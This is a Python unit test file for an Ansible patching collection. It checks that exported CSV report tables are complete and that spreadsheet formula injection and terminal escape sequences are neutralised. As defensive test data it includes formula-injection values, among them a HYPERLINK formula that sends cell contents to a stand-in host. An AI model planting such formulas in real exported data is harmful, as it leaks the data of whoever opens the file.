# Copyright (c) 2026, the msp.patching contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The lists beside the report: complete, and no formula to a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from ansible_collections.msp.patching.plugins.plugin_utils.packages import members
from ansible_collections.msp.patching.plugins.plugin_utils.report import tabular
from tests.unit.report.month import BETA, FORMULA, account

WHOLE = account()
TABLES = {name: list(csv.DictReader(io.StringIO(text))) for name, text in tabular.tables(WHOLE)}


def test_every_endpoint_flaw_and_boot_is_there() -> None:
    assert [row["name"] for row in TABLES["endpoints"]] == [one.name for one in WHOLE.endpoints]
    assert [(row["endpoint"], row["label"]) for row in TABLES["flaws"]] == [
        (one.endpoint, one.label) for one in WHOLE.flaws
    ]
    assert [row["endpoint"] for row in TABLES["boots"]] == ["ACME-WS01", "BETA-WS01"]


def test_a_flaw_tells_all_its_instants() -> None:
    (row,) = [row for row in TABLES["flaws"] if (row["endpoint"], row["label"]) == ("ACME-WS01", "KB5001")]
    assert row["released"] == "2026-11-10T18:00:00.000000+00:00"
    assert row["identified"] == "2026-11-10T20:00:00.000000+00:00"
    assert row["corrected"] == "2026-11-11T19:00:00.000000+00:00"
    assert (row["boot_id"], row["corrected_in_time"], row["state"]) == ("boot-2", "yes", "corrected")
    assert (row["cves"], row["cvss"]) == ("CVE-2026-1 CVE-2026-2", "8.8")


def test_what_a_spreadsheet_would_take_for_a_formula_is_text() -> None:
    assert f"'{FORMULA}" in {row["title"] for row in TABLES["flaws"]}
    assert BETA in {row["client"] for row in TABLES["flaws"]}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1"])
def test_each_beginning_of_a_formula_is_known(text: str) -> None:
    assert tabular._cell(text) == f"'{text}"


def test_a_list_may_begin_one_too() -> None:
    """In the report's tables and in those of a package, which are made by the same code."""
    record = {"cves": ['=HYPERLINK("http://x/?"&A1,"y")', "CVE-2026-1"]}
    assert tabular._cell(record["cves"]).startswith("'=HYPERLINK")
    assert members._cell(record, "cves").startswith("'=HYPERLINK")
    assert members._cell({"cves": ["CVE-2026-1", "CVE-2026-2"]}, "cves") == "CVE-2026-1, CVE-2026-2"


def test_a_table_commands_no_terminal() -> None:
    assert tabular._cell("\x1b[2J=1") == members._cell({"title": "\x1b[2J=1"}, "title") == "\ufffd[2J=1"
